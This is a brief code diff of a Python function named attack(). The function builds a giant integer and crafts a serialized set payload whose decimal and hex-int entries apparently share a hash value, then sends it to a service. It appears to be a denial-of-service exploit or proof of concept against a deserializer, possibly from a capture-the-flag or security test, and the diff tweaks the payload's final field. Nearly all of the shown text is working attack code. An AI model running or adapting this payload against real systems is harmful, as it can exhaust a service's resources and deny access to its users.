@@ -22,6 +22,6 @@ def attack():
     number = (1 << 800_000) + 7
     same_hash = str(number % (2**61 - 1))
     keys = b'{"!decimal":"%b"},{"!int":"%b"}' % (same_hash.encode(), hex(number).encode())
-    send(exchange(), b'[[{"!set":[' + keys + b"]}],[],[1]]")
+    send(exchange(), b'[[{"!set":[' + keys + b']}],[],"0100000000000000"]')
     while True:
         pass
